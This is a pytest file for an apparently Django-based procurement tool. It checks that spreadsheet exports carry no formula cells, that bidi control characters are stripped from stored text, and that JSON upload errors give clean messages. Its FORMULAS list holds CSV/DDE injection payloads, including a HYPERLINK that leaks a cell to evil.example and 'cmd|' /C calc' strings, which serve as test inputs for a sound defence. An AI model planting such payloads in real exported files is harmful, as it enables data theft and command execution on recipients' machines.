"""Text hygiene wherever text leaves the system (issue 33, item 5).

Findings: a catalog name starting with ``=`` landed as a formula cell in the vendor
questionnaire, a workbook that goes to outside vendors; bidi control characters in a vendor's
answer-sheet evidence reordered text in the signed brief ("Quote no. dilav 54321-CBA"); the
config.json upload's message for a 5,000-digit number was Python's own text, cut mid-word.
"""

from __future__ import annotations

import html
import io
import json
from datetime import date

import openpyxl
import pytest
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation

from advisor.assessments import services
from advisor.assessments.models import Assessment
from advisor.domain.questionnaire import specs
from advisor.domain.questionnaire.declared import validate_declared
from advisor.domain.questionnaire.questions import Question
from advisor.questionnaire.xlsx import HEADERS, read_workbook, write_workbook
from advisor.roles import PROCUREMENT_STAFF
from advisor.spreadsheets import csv_text, from_csv_text
from tests.support.catalog import load_catalog
from tests.support.users import make_user
from vendors import resources
from vendors.models import Accelerator

# Stored text (the pre-save cleaning) and imports: what the database keeps (marker `database`).
pytestmark = [pytest.mark.django_db, pytest.mark.database]

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
BIDI = "\u202e"  # RIGHT-TO-LEFT OVERRIDE


def formula_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))  # formulas kept as formulas
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def cell_values(data: bytes) -> set:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}


# --- Spreadsheets: every cell written from data is text, never a formula --------------------


@pytest.mark.parametrize("name", FORMULAS)
def test_the_vendor_questionnaire_has_no_formula_cell(name):
    question = Question("dc-a", name, specs.fact(specs.DATA_CENTER, "ups_minutes"), "unknown", ())
    with translation.override("en"):
        data = write_workbook([question], title=name)
    assert formula_cells(data) == []
    values = cell_values(data)
    assert name in values  # the text itself, unchanged (the subject column names the subject)


@pytest.fixture
def hostile_catalog():
    load_catalog()
    accelerator = Accelerator.objects.order_by("key").first()
    accelerator.name = FORMULAS[0]
    accelerator.maker = FORMULAS[3]
    accelerator.save()
    return accelerator


def admin_formats():
    from vendors.admin.hardware import AcceleratorAdmin  # admin modules load with the URLs (0038)

    formats = AcceleratorAdmin(Accelerator, admin.site).get_export_formats()
    return {fmt().get_title(): fmt for fmt in formats}


def test_the_catalog_admin_exports_only_csv_and_xlsx():
    assert set(admin_formats()) == {"csv", "xlsx"}


def test_the_catalog_xlsx_export_has_no_formula_cell(hostile_catalog):
    exported = admin_formats()["xlsx"]().export_data(resources.AcceleratorResource().export())
    assert formula_cells(exported) == []
    values = cell_values(exported)
    assert FORMULAS[0] in values and FORMULAS[3] in values


def test_the_catalog_csv_export_starts_no_cell_as_a_formula_and_imports_back(hostile_catalog):
    csv_format = admin_formats()["csv"]()
    exported = csv_format.export_data(resources.AcceleratorResource().export())
    rows = list(__import__("csv").reader(io.StringIO(exported)))
    starts = {cell[:1] for row in rows for cell in row}
    assert not starts & {"=", "+", "@", "\t", "\r"}
    assert "'" + FORMULAS[0] in {cell for row in rows for cell in row}
    # The catalog import takes the apostrophe off again: the round trip changes nothing.
    dataset = csv_format.create_dataset(exported)
    result = resources.AcceleratorResource().import_data(dataset)
    assert not result.has_errors() and not result.has_validation_errors()
    hostile_catalog.refresh_from_db()
    assert hostile_catalog.name == FORMULAS[0] and hostile_catalog.maker == FORMULAS[3]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 851 1234", "'+86 851 1234"),
        ("@home", "'@home"),
        ("\tx", "'\tx"),
        ("-5", "-5"),  # a number is not a formula
        ("-1.5e3", "-1.5e3"),
        ("Guiyang", "Guiyang"),
        (12, 12),
    ],
)
def test_csv_cells(value, written):
    assert csv_text(value) == written
    assert from_csv_text(written) == value


# --- Bidi controls stripped from every stored text ---------------------------------------------


def test_catalog_text_is_stored_without_bidi_controls():
    load_catalog()
    accelerator = Accelerator.objects.order_by("key").first()
    accelerator.name = f"H100 {BIDI}LAVED\u2066x\u2069"
    accelerator.notes = "line one\nline\x00 two\u200f"
    accelerator.save()
    accelerator.refresh_from_db()
    assert accelerator.name == "H100 LAVEDx"
    assert accelerator.notes == "line one\nline two"  # line breaks kept


def test_an_assessment_title_and_answers_are_stored_without_bidi_controls():
    buyer = make_user("buyer", PROCUREMENT_STAFF)
    assessment = services.create_assessment(buyer, f"Support {BIDI}tob")
    assessment.answers = {"site": {"room_name": f"Room{BIDI} 1", "compare": [f"a{BIDI}"]}}
    assessment.save()
    stored = Assessment.objects.get(pk=assessment.pk)
    assert stored.title == "Support tob"
    assert stored.answers == {"site": {"room_name": "Room 1", "compare": ["a"]}}


def filled_sheet(evidence: str, answer) -> bytes:
    question = Question("dc-a", "DC A", specs.fact(specs.DATA_CENTER, "ups_minutes"), "unknown", ())
    with translation.override("en"):
        book = openpyxl.load_workbook(io.BytesIO(write_workbook([question], "t")))
    sheet = book["questionnaire"]
    sheet.cell(3, HEADERS.index("answer") + 1).value = answer
    sheet.cell(3, HEADERS.index("evidence") + 1).value = evidence
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_answer_sheet_evidence_is_read_without_bidi_controls():
    evidence = f"Quote no. {BIDI}ABC-12345"
    result = read_workbook(filled_sheet(evidence, 30), date(2026, 11, 29))
    assert not result.refusals
    assert result.declared[0].evidence == "Quote no. ABC-12345"


def test_a_declared_section_from_the_command_line_loses_its_bidi_controls():
    facts = validate_declared(
        {"dc-a": {"ups_minutes": {"value": 30, "evidence": f"Report {BIDI}25-2A"}}}
    )
    assert facts[0].evidence == "Report 25-2A"


def test_a_text_answer_loses_its_bidi_controls_instead_of_being_refused():
    from advisor.domain.questionnaire.answers import parse_answer

    text_fact = next(f for f in specs.FACTS if f.type == specs.TEXT)
    assert parse_answer(text_fact, f"MLPS {BIDI}52-26") == "MLPS 52-26"


# --- Messages never carry library text, and are never cut ---------------------------------------


def test_a_config_json_with_a_5000_digit_number_gets_a_whole_message_of_ours(client):
    from tests.integration.test_wizard_support import make_catalog

    make_catalog()
    buyer = make_user("buyer", PROCUREMENT_STAFF)
    client.force_login(buyer)
    draft = services.create_assessment(buyer, "Upload")
    upload = SimpleUploadedFile(
        "config.json", b'{"hidden_size": ' + b"9" * 5000 + b"}", content_type="application/json"
    )
    response = client.post(
        reverse("wizard:step", args=[draft.pk, "model"]),
        {"source": "upload", "method": "lora", "config_file": upload, "version": draft.version},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    page = html.unescape(response.content.decode())
    assert "The file is not valid JSON: a number in it has more than 4,300 digits." in page
    assert "set_int_max_str_digits" not in page and "Exceeds the limit" not in page


@pytest.mark.parametrize(
    ("raw", "words"),
    [
        (b'{"a": 1,}', "The file is not valid JSON (line 1, column 8)."),
        (b'{"hidden_size": NaN}', "The file is not valid JSON: NaN is not a number."),
    ],
)
def test_config_json_errors_are_in_our_words(raw, words):
    from advisor.domain.model_config import ConfigProblem, parse_config
    from advisor.presentation.text import render_text

    with translation.override("en"):
        with pytest.raises(ConfigProblem) as refused:
            parse_config(raw)
        assert render_text(refused.value.message) == words
    assert json.dumps(words)  # one plain sentence
